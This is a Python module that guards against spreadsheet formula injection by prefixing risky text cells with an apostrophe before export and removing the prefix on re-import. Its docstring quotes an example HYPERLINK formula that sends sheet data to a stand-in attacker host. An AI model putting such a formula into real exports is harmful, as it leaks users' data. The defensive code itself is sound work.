"""Cells a spreadsheet will not run: every XLSX and CSV chiso writes goes through `neutral`.

Text that begins with =, +, -, @, a tab or a carriage return can be taken for a formula by
Excel or LibreOffice (`=HYPERLINK("http://evil.example/?d="&A1,"x")` sends the sheet away).
Such text gets a leading apostrophe, Excel's own mark for "this is text"; numbers, dates and
empty cells are left alone, so -5 stays a number. `restore` undoes it when chiso reads its own
export back, so an export imports back unchanged.
"""

from __future__ import annotations

from datetime import date, datetime
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """`value` as a cell that cannot run: text beginning like a formula gets a leading "'"."""
    if isinstance(value, str) and value[:1] in FORMULA_START and value:
        return "'" + value
    return value


def restore(text: str) -> str:
    """Text read back from a cell `neutral` wrote, as it was."""
    if text[:1] == "'" and text[1:2] in FORMULA_START and len(text) > 1:
        return text[1:]
    return text


def write_row(sheet: Any, row: int, col: int, values: Any, fmt: Any = None) -> None:
    """Write cells to an xlsxwriter sheet by type: text as text (never a formula), neutralised."""
    for c, value in enumerate(values, start=col):
        if value is None:
            continue
        if isinstance(value, bool):
            sheet.write_boolean(row, c, value, fmt)
        elif isinstance(value, (int, float)):
            sheet.write_number(row, c, value, fmt)
        elif isinstance(value, (date, datetime)):
            sheet.write_datetime(row, c, value, fmt)
        else:
            sheet.write_string(row, c, neutral(str(value)), fmt)
